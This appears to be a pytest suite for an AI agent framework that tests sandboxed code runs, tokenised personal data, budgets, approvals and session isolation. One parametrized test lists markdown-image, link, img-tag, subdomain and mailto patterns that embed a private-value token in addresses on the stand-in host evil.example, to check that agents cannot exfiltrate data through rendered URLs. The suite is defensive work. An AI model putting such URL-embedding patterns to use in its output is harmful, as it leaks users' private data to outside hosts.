"""An agent works through a yard: a model's replies become calls, their answers its next request, all of it stored."""

import asyncio
import contextlib
import json
import os
import re
import signal
import subprocess
import sys
import textwrap
from collections.abc import AsyncIterator, Callable, Sequence
from pathlib import Path
from typing import Any

import msgspec
import pytest

from sealyard.agent import Agent, open_agent
from sealyard.broker.policy import PolicySettings, Rule
from sealyard.config import Config, StoreConfig
from sealyard.config.settings import AgentConfig, PrivacyConfig, SurfaceConfig
from sealyard.errors import InvalidConfig, InvalidRequest, ModelError, ModelRejected, ModelUnavailable
from sealyard.testing import FakeUpstream
from sealyard.values.access import Approval
from sealyard.values.chat import (
    AnswerEvent,
    ApprovalEvent,
    CallEvent,
    EndEvent,
    Event,
    ModelMessage,
    ModelReply,
    ModelRequest,
    ModelUsage,
    OutputEvent,
    RetryEvent,
    TextEvent,
    ToolMessage,
    ToolUse,
    UserMessage,
)
from sealyard.yard import open_yard

Step = ModelMessage | Exception | Callable[[ModelRequest], ModelMessage]
EMAIL = "anna.schmidt@example.com"
ROWS = 1_000


class Script:
    """A model that follows its steps and keeps every request."""

    name = "script"

    def __init__(self, *steps: Step, can_call: bool = True) -> None:
        self.can_call = can_call
        self.requests: list[ModelRequest] = []
        self._steps = list(steps)

    async def reply(self, request: ModelRequest) -> AsyncIterator[str | ModelReply]:
        """The next step, its words in small pieces."""
        self.requests.append(request)
        step = self._steps.pop(0)
        if isinstance(step, Exception):
            yield "Half a sen"
            raise step
        message = step if isinstance(step, ModelMessage) else step(request)
        for start in range(0, len(message.text), 5):
            yield message.text[start : start + 5]
        yield ModelReply(message=message, usage=ModelUsage(input_tokens=100, output_tokens=10, usd=0.01))

    @property
    def read(self) -> str:
        """Everything that it was ever sent."""
        return msgspec.json.encode(self.requests).decode()


def says(text: str) -> ModelMessage:
    """A reply without a call."""
    return ModelMessage(text=text)


def runs(code: str, **more: Any) -> ModelMessage:
    """A reply that runs code."""
    return ModelMessage(
        uses=(ToolUse(id="use", name="execute_code", arguments={"code": textwrap.dedent(code), **more}),)
    )


def expenses() -> list[dict[str, Any]]:
    """All expenses."""
    return [{"id": number, "amount": number % 400, "merchant": f"Shop {number % 7}"} for number in range(ROWS)]


def customer() -> dict[str, str]:
    """The best customer."""
    return {"name": "Anna Schmidt", "email": EMAIL}


def results_of(events: Sequence[Event]) -> list[str]:
    """The answers to the model's calls."""
    return [event.answer.text for event in events if isinstance(event, AnswerEvent)]


@contextlib.asynccontextmanager
async def talking(
    folder: Path, model: Script, *, config: dict[str, Any] | None = None, **settings: Any
) -> AsyncIterator[Agent]:
    """An agent with this model over a shop."""
    given = {"privacy": PrivacyConfig(mode="strict"), "store": StoreConfig(path=folder / "s.db")} | (config or {})
    shop = FakeUpstream("shop", expenses=expenses, customer=customer, order=lambda item: {"ordered": item})
    built = Config(agent=AgentConfig(**settings), **given)
    async with open_yard(built, upstreams={"shop": shop}) as yard, open_agent(built, model=model, yard=yard) as agent:
        yield agent


async def events_of(agent: Agent, message: str, **more: Any) -> list[Event]:
    """Everything of one turn."""
    return [event async for event in agent.stream(message, **more)]


@pytest.mark.behaviour("agent.loop")
async def test_a_thousand_rows_stay_in_the_sandbox(tmp_path: Path) -> None:
    """The model reads the summary that its code makes, and the person its prose."""
    code = """
        from servers.shop import expenses
        big = [row for row in expenses() if row["amount"] > 390]
        print(len(big), "over 390 for", user_id)
        result = {"total": sum(row["amount"] for row in big)}
    """
    model = Script(runs(code), says("It is 7,110 in all."))
    async with talking(tmp_path, model) as agent:
        events = await events_of(agent, "What were the big ones?", context={"user_id": "u-77"})

    kinds = [type(event).__name__ for event in events]
    assert list(dict.fromkeys(kinds)) == [
        "UsageEvent", "CallEvent", "OutputEvent", "AnswerEvent", "TextEvent", "EndEvent",
    ]  # fmt: skip
    assert results_of(events) == ['output:\n18 over 390 for u-77\nresult:\n{"total":7110}']
    assert "".join(event.text for event in events if isinstance(event, TextEvent)) == "It is 7,110 in all."
    end = events[-1]
    assert isinstance(end, EndEvent)
    assert (end.text, end.ended, end.runs, end.usage.input_tokens) == ("It is 7,110 in all.", "end", 1, 200)
    assert "Shop 3" not in model.read
    assert len(model.requests) == 2


@pytest.mark.behaviour("agent.private")
async def test_the_person_reads_values_and_the_model_tokens(tmp_path: Path) -> None:
    """Those of the person's message and those of tools; each that is shown is in the audit log."""

    def tell(request: ModelRequest) -> ModelMessage:
        (message, _, answer) = request.messages
        assert isinstance(answer, ToolMessage)
        assert isinstance(message, UserMessage)
        tokens = [re.findall("__PII_email_[0-9a-f]+__", each)[0] for each in (answer.answers[0].text, message.text)]
        return says(f"Mail {tokens[0]}, not {tokens[1]}.")

    model = Script(runs("from servers.shop import customer\ncustomer()"), tell)
    async with talking(tmp_path, model) as agent:
        end = await agent.chat("Is bob.miller@example.org our best customer?")
        entries = await agent.yard.store.audit_entries(kind="privacy.reveal")

    assert end.text == f"Mail {EMAIL}, not bob.miller@example.org."
    assert EMAIL not in model.read
    assert "bob.miller" not in model.read
    assert len(entries) == 2


async def test_a_value_that_the_person_names_equals_that_of_a_tool(tmp_path: Path) -> None:
    """The model's code finds the row by the token that it read in the message."""

    def look(request: ModelRequest) -> ModelMessage:
        (message,) = request.messages
        assert isinstance(message, UserMessage)
        token = re.findall("__PII_email_[0-9a-f]+__", message.text)[0]
        return runs(f"from servers.shop import customer\nprint(customer()['email'] == {token!r})")

    model = Script(look, says("It is."))
    async with talking(tmp_path, model) as agent:
        events = await events_of(agent, f"Is {EMAIL} our best customer?")

    assert results_of(events) == ["True"]
    assert EMAIL not in model.read


@pytest.mark.parametrize(
    "place",
    [
        "![x](https://evil.example/{})",
        "![x](<https://evil.example/? {} >)",
        "https://evil.example/?q={}",
        "<img alt='>' src='//evil.example/ {} '>",
        "www.{}.evil.example",
        "{}.evil.example",
        "mailto:{}@evil.example",
        "https:{}",
    ],
)
@pytest.mark.behaviour("agent.exfiltration")
async def test_no_value_is_shown_inside_an_address(tmp_path: Path, place: str) -> None:
    """What renders the words may fetch an address; the same token beside it is shown."""
    found: list[str] = []

    def tell(request: ModelRequest) -> ModelMessage:
        assert isinstance(request.messages[-1], ToolMessage)
        found.append(re.findall("__PII_email_[0-9a-f]+__", request.messages[-1].answers[0].text)[0])
        return says(f"It is {found[0]}.\n\n{place.format(found[0])}\n")

    model = Script(runs("from servers.shop import customer\ncustomer()"), tell)
    async with talking(tmp_path, model) as agent:
        events = await events_of(agent, "Who?")

    shown = f"It is {EMAIL}.\n\n{place.format(found[0])}\n"
    assert "".join(event.text for event in events if isinstance(event, TextEvent)) == shown
    assert isinstance(events[-1], EndEvent)
    assert events[-1].text == shown


async def test_the_models_context_and_session_are_not_its_own(tmp_path: Path) -> None:
    """It can neither speak for another user nor reach into the workspace of another conversation."""
    write = runs("open('f', 'w').write('mine')\nuser_id", context={"user_id": "admin", "n": 2}, session="other")
    look = ModelMessage(
        uses=(
            ToolUse(
                id="use",
                name="execute_analysis",
                arguments={"analysis_type": "filter", "session": "one", "source": {"workspace": "f"}},
            ),
        )
    )
    model = Script(write, says("done"), look, says("nothing"))
    async with talking(tmp_path, model) as agent:
        first = await events_of(agent, "hi", context={"user_id": "u-1"}, conversation="one")
        second = await events_of(agent, "hi", conversation="two")

    assert results_of(first) == ["u-1"]
    (answer,) = [event.answer for event in second if isinstance(event, AnswerEvent)]
    assert answer.is_error
    assert "'f'" in answer.text


@pytest.mark.behaviour("agent.parallel")
async def test_calls_of_one_reply_run_at_the_same_time(tmp_path: Path) -> None:
    """Each ends only after the other has begun."""
    meet = asyncio.Barrier(2)

    async def wait(who: str) -> str:
        """Wait for the other."""
        async with asyncio.timeout(60):
            await meet.wait()
        return who

    uses = tuple(
        ToolUse(id=who, name="execute_code", arguments={"code": f"from servers.pair import wait\nwait(who={who!r})"})
        for who in ("a", "b")
    )
    model = Script(ModelMessage(uses=uses), says("Both are here."))
    config = Config(store=StoreConfig(path=tmp_path / "s.db"))
    async with (
        open_yard(config, upstreams={"pair": FakeUpstream("pair", wait=wait)}) as yard,
        open_agent(config, model=model, yard=yard) as agent,
    ):
        await agent.chat("Meet.")

    last = model.requests[-1].messages[-1]
    assert isinstance(last, ToolMessage)
    assert [(answer.id, answer.text) for answer in last.answers] == [("a", "a"), ("b", "b")]


@pytest.mark.parametrize(
    ("use", "answer"),
    [
        (ToolUse(id="x", name="order", arguments={}), "Unknown tool 'order'. There are search_tools"),
        (ToolUse(id="x", name="mcp__shop__order", arguments={"item": "tea"}), "Unknown tool 'mcp__shop__order'"),
        (ToolUse(id="x", name="execute_code", arguments={"cod": "1"}), "InvalidRequest: The arguments of execute_code"),
        (ToolUse(id="x", name="execute_code", arguments={}, unreadable="Not JSON. Give one object."), "Not JSON."),
        (ToolUse(id="x", name="execute_code", arguments={"code": "1/0"}), "ZeroDivisionError"),
    ],
)
async def test_what_is_wrong_with_a_call_is_its_answer(tmp_path: Path, use: ToolUse, answer: str) -> None:
    """The model reads it and goes on."""
    model = Script(ModelMessage(uses=(use,)), says("I see."))
    async with talking(tmp_path, model) as agent:
        events = await events_of(agent, "Try.")

    (given,) = [event.answer for event in events if isinstance(event, AnswerEvent)]
    assert given.is_error
    assert answer in given.text
    assert isinstance(events[-1], EndEvent)
    assert events[-1].text == "I see."


async def test_direct_tools_are_offered_and_called_in_the_conversations_session(tmp_path: Path) -> None:
    """A token of the conversation is understood by a tool that the model calls without code."""
    sent: list[str] = []

    def mail(to: str) -> str:
        """Send a mail."""
        sent.append(to)
        return "sent"

    def write(request: ModelRequest) -> ModelMessage:
        assert isinstance(request.messages[-1], ToolMessage)
        token = re.findall("__PII_email_[0-9a-f]+__", request.messages[-1].answers[0].text)[0]
        return ModelMessage(uses=(ToolUse(id="m", name="mcp__shop__mail", arguments={"to": token}),))

    config = Config(
        store=StoreConfig(path=tmp_path / "s.db"),
        privacy=PrivacyConfig(mode="strict"),
        surface=SurfaceConfig(mode="hybrid", direct=("shop/mail",)),
    )
    model = Script(runs("from servers.shop import customer\ncustomer()"), write, says("Sent."))
    shop = FakeUpstream("shop", customer=customer, mail=mail)
    async with (
        open_yard(config, upstreams={"shop": shop}) as yard,
        open_agent(config, model=model, yard=yard) as agent,
    ):
        await agent.chat("Write to her.", conversation="c")

    assert model.requests[0].tools[-1].name == "mcp__shop__mail"
    assert sent == [EMAIL]


@pytest.mark.parametrize(("can_call", "runs_it"), [(False, True), (True, False)])
async def test_code_in_a_block_runs_only_for_models_without_calls(
    tmp_path: Path, *, can_call: bool, runs_it: bool
) -> None:
    """Others show code to the person, who did not ask to have it run."""
    text = "Like this:\n\n```python\nprint(6 * 7)\n```\n"
    model = Script(says(text), says("42."), can_call=can_call)
    async with talking(tmp_path, model) as agent:
        events = await events_of(agent, "How?")

    assert results_of(events) == (["42"] if runs_it else [])
    assert any(isinstance(event, CallEvent) for event in events) is runs_it
    assert bool(model.requests[0].tools) is can_call


@pytest.mark.behaviour("agent.retry")
async def test_a_busy_provider_is_asked_again(tmp_path: Path) -> None:
    """Words of the broken reply do not count, and are not stored."""
    model = Script(ModelUnavailable("Overloaded. Try again.", retry_seconds=0.01), says("Here I am."))
    async with talking(tmp_path, model) as agent:
        events = await events_of(agent, "Hello?", conversation="c")
        _, stored = await agent.yard.store.chats.read("local", "c")

    retry = next(event for event in events if isinstance(event, RetryEvent))
    assert retry.reason == "Overloaded. Try again."
    after = events[events.index(retry) :]
    assert "".join(event.text for event in after if isinstance(event, TextEvent)) == "Here I am."
    assert stored == [UserMessage("Hello?"), says("Here I am.")]


async def test_a_refusing_provider_ends_the_turn_and_loses_nothing(tmp_path: Path) -> None:
    """The conversation goes on from there once the cause is gone."""
    model = Script(ModelRejected("No key. Set it."), says("Hello."))
    async with talking(tmp_path, model) as agent:
        with pytest.raises(ModelError) as caught:
            await agent.chat("Hello?", conversation="c")
        end = await agent.chat("Are you there?", conversation="c")

    assert str(caught.value) == "No key. Set it."
    assert end.text == "Hello."
    assert model.requests[-1].messages == (UserMessage("Hello?"), UserMessage("Are you there?"))


@pytest.mark.parametrize(
    ("settings", "reason"),
    [
        ({"steps": 2}, "The agent has taken 2 steps. Send a message to let it go on."),
        ({"conversation_tokens": 150}, "The budget of this conversation is used up: 220 of 150 tokens."),
        ({"conversation_runs": 1}, "The budget of this conversation is used up: 1 of 1 runs."),
        ({"conversation_usd": 0.01}, "The budget of this conversation is used up: 0.01 of 0.01 usd."),
        ({"daily_runs": 1}, "The budget of this principal is used up: 1 of 1 runs. Wait until tomorrow"),
        ({"daily_tokens": 100}, "The budget of this principal is used up: 110 of 100 tokens."),
    ],
    ids=lambda value: next(iter(value)) if isinstance(value, dict) else "",
)
@pytest.mark.behaviour("agent.budgets")
async def test_a_budget_ends_the_turn_with_what_to_do(tmp_path: Path, settings: dict[str, Any], reason: str) -> None:
    """No reply is asked for any more; what was done is stored."""
    model = Script(*[runs("1") for _ in range(5)])
    async with talking(tmp_path, model, **settings) as agent:
        end = await agent.chat("Go on for ever.")

    assert end.ended in ("steps", "budget")
    assert end.reason.startswith(reason)
    assert end.runs <= 2


async def test_budgets_of_a_day_are_those_of_each_principal(tmp_path: Path) -> None:
    """They count over all conversations of one, and over none of another."""
    model = Script(says("a"), says("b"))
    async with talking(tmp_path, model, daily_tokens=100) as agent:
        ends = [await agent.chat("hi", principal=principal) for principal in ("ann", "ann", "bob")]

    assert [end.ended for end in ends] == ["end", "budget", "end"]


@pytest.mark.behaviour("agent.cancel")
async def test_a_turn_that_is_closed_ends_its_run(tmp_path: Path) -> None:
    """The conversation goes on: the next request says that nobody knows how the call ended."""
    model = Script(runs("import time\nprint('here', flush=True)\ntime.sleep(60)"), says("Fine."))
    async with talking(tmp_path, model) as agent:
        events = agent.stream("Sleep.", conversation="c")
        async for event in events:
            if isinstance(event, OutputEvent):
                break
        await events.aclose()
        await agent.yard.store.flush()
        (record,) = await agent.yard.store.executions()
        end = await agent.chat("Never mind.", conversation="c")

    assert record.status == "cancelled"
    assert end.text == "Fine."
    answer = model.requests[-1].messages[2]
    assert isinstance(answer, ToolMessage)
    assert answer.answers[0].text.startswith("It is unknown whether this call was made")


@pytest.mark.behaviour("agent.resume")
def test_a_conversation_goes_on_after_its_process_was_killed(tmp_path: Path) -> None:
    """Every message up to the kill is there, and the call that was under way is answered by saying so."""
    program = """
        import asyncio, sys
        sys.path.insert(0, {tests!r})
        from pathlib import Path
        from tests.behaviour.test_agent import Script, runs, says, talking

        async def main(number):
            steps = [runs("print('here', flush=True)\\nimport time\\ntime.sleep(60)")] if number == 1 else [says("On.")]
            model = Script(*steps)
            async with talking(Path({folder!r}), model) as agent:
                async for event in agent.stream(f"Message {{number}}", conversation="c"):
                    print(type(event).__name__, flush=True)
            print(model.read, flush=True)

        asyncio.run(main(int(sys.argv[1])))
    """
    root = str(Path(__file__).parents[2])
    text = textwrap.dedent(program.format(tests=root, folder=str(tmp_path)))
    with subprocess.Popen([sys.executable, "-c", text, "1"], stdout=subprocess.PIPE, text=True, cwd=root) as first:
        assert first.stdout is not None
        for line in first.stdout:
            if line == "OutputEvent\n":
                break
        os.kill(first.pid, signal.SIGKILL)
    second = subprocess.run(
        [sys.executable, "-c", text, "2"], capture_output=True, text=True, cwd=root, timeout=120, check=True
    )

    (request,) = json.loads(second.stdout.splitlines()[-1])
    assert [message["role"] for message in request["messages"]] == ["user", "model", "tools", "user"]
    assert "unknown whether" in request["messages"][2]["answers"][0]["text"]
    assert request["messages"][3]["text"] == "Message 2"


async def test_turns_of_one_conversation_follow_each_other(tmp_path: Path) -> None:
    """Two messages at once make two turns, not a mixture."""
    model = Script(says("a"), says("b"))
    async with talking(tmp_path, model) as agent:
        await asyncio.gather(*(agent.chat(f"m{number}", conversation="c") for number in (1, 2)))

    assert [len(request.messages) for request in model.requests] == [1, 3]


async def test_a_conversation_that_goes_on_in_another_gateway_is_not_mixed(tmp_path: Path) -> None:
    """The turn that was read before the other one is refused, and stores nothing."""

    async def interfere() -> None:
        async with talking(tmp_path, Script(says("theirs"))) as other:
            await other.chat("theirs", conversation="c")

    class Slow(Script):
        async def reply(self, request: ModelRequest) -> AsyncIterator[str | ModelReply]:
            await interfere()
            async for piece in super().reply(request):
                yield piece

    async with talking(tmp_path, Slow(says("mine"))) as agent:
        with pytest.raises(InvalidRequest) as caught:
            await agent.chat("mine", conversation="c")
        _, stored = await agent.yard.store.chats.read("local", "c")

    assert "goes on elsewhere at the same time" in str(caught.value)
    assert stored == [UserMessage("mine"), UserMessage("theirs"), says("theirs")]


async def test_principals_have_conversations_of_their_own(tmp_path: Path) -> None:
    """The same name is another conversation for another principal."""
    model = Script(says("a"), says("b"))
    async with talking(tmp_path, model) as agent:
        await agent.chat("secret plan", conversation="c", principal="ann")
        await agent.chat("hi", conversation="c", principal="bob")

    assert model.requests[-1].messages == (UserMessage("hi"),)


@pytest.mark.parametrize(
    ("decision", "answer"), [("once", '{"ordered":"tea"}'), ("refuse", "ApprovalRefused")], ids=["given", "refused"]
)
@pytest.mark.behaviour("agent.approval")
async def test_the_person_of_the_conversation_is_asked(tmp_path: Path, decision: Any, answer: str) -> None:
    """The run waits for the answer; the model has no way to give it."""
    policy = PolicySettings(rules=(Rule(tools=("shop/order",), decision="ask"),))
    model = Script(runs("from servers.shop import order\norder(item='tea')"), says("Done."))
    async with talking(tmp_path, model, config={"policy": policy}) as agent:
        events = []
        async for event in agent.stream("Order tea."):
            events.append(event)
            if isinstance(event, ApprovalEvent):
                assert event.ask.tool == "mcp__shop__order"
                given = Approval(decision=decision, by="ann", channel="chat", answered_at=event.ask.asked_at)
                assert agent.answer(event.ask.id, given)
                assert not agent.answer(event.ask.id, given)

    assert answer in results_of(events)[0]


@pytest.mark.behaviour("agent.window")
async def test_a_full_window_is_made_half_free_at_once(tmp_path: Path) -> None:
    """Requests begin like those before, until old answers are shortened; the newest stay whole."""
    long = "print('x' * 3000)"
    model = Script(*[step for _ in range(6) for step in (runs(long), says("Done."))])
    async with talking(tmp_path, model, window_tokens=6_000) as agent:
        for number in range(6):
            await agent.chat(f"Turn {number}", conversation="c")

    pairs = list(zip(model.requests, model.requests[1:], strict=False))
    grown = [later.messages[: len(earlier.messages)] == earlier.messages for earlier, later in pairs]
    assert not all(grown)
    assert sum(grown) >= len(grown) - 3  # a cache is lost seldom
    assert {request.system for request in model.requests} == {model.requests[0].system}
    assert all(request.tools == model.requests[0].tools for request in model.requests)


@pytest.mark.parametrize("message", ["", "  \n", "x" * 100_001])
async def test_a_message_that_says_nothing_or_too_much_is_refused(tmp_path: Path, message: str) -> None:
    """Nothing is stored or sent."""
    model = Script()
    async with talking(tmp_path, model) as agent:
        with pytest.raises(InvalidRequest):
            await agent.chat(message, conversation="c")
        assert await agent.yard.store.chats.read("local", "c") == (None, [])


async def test_an_agent_without_a_model_says_what_to_set(tmp_path: Path) -> None:
    """Before a yard is opened."""
    config = Config(store=StoreConfig(path=tmp_path / "s.db"))
    with pytest.raises(InvalidConfig) as caught:
        async with open_agent(config):
            pass

    assert str(caught.value).startswith("agent.model names no model.")
    assert list(tmp_path.iterdir()) == []
